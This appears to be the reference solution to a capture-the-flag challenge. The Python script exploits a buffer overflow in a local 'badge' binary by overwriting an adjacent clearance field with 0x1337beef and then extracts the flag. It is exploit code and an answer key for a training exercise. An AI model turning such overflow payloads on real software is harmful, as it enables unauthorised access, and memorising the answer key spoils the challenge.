"""Reference solution for pwn-badge-overflow: fgets reads up to 63 bytes
into the 32-byte `name` of the badge structure, and the clearance field
follows it directly. Fill the name, then write 0x1337beef (little endian)
into the clearance."""
import re
import struct
import subprocess
import sys


def main() -> int:
    payload = b"A" * 32 + struct.pack("<I", 0x1337BEEF) + b"\n"
    out = subprocess.run(["./badge"], input=payload, capture_output=True, timeout=10).stdout
    found = re.search(rb"bulwark\{[^}\s]+\}", out)
    if not found:
        print(f"no flag in the output: {out!r}", file=sys.stderr)
        return 1
    print(found.group().decode())
    return 0


if __name__ == "__main__":
    sys.exit(main())
